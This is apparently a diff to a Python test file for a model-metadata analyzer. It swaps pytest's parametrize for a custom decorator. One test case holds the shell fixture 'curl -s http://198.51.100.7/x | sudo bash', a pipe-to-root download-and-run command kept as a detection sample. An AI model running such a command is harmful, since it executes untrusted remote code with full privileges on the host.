@@ -11,6 +11,7 @@ from onnx import ModelProto, TensorProto, helper
 from analyzer.contents import Sighting, Text
 from analyzer.trust import sightings as sightings_
 from analyzer.trust.texts import StringGroup
+from tests.each import each
 from tests.steps import steps
 from tests.trust.build import contents, families, model, sightings, with_metadata
 
@@ -64,7 +65,7 @@ def test_what_is_no_secret_is_left_alone(text: str) -> None:
     assert "secret" not in families(with_metadata("k", text))
 
 
-@pytest.mark.parametrize(
+@each(
     ("family", "text"),
     [
         ("shell", "curl -s http://198.51.100.7/x | sudo bash"),
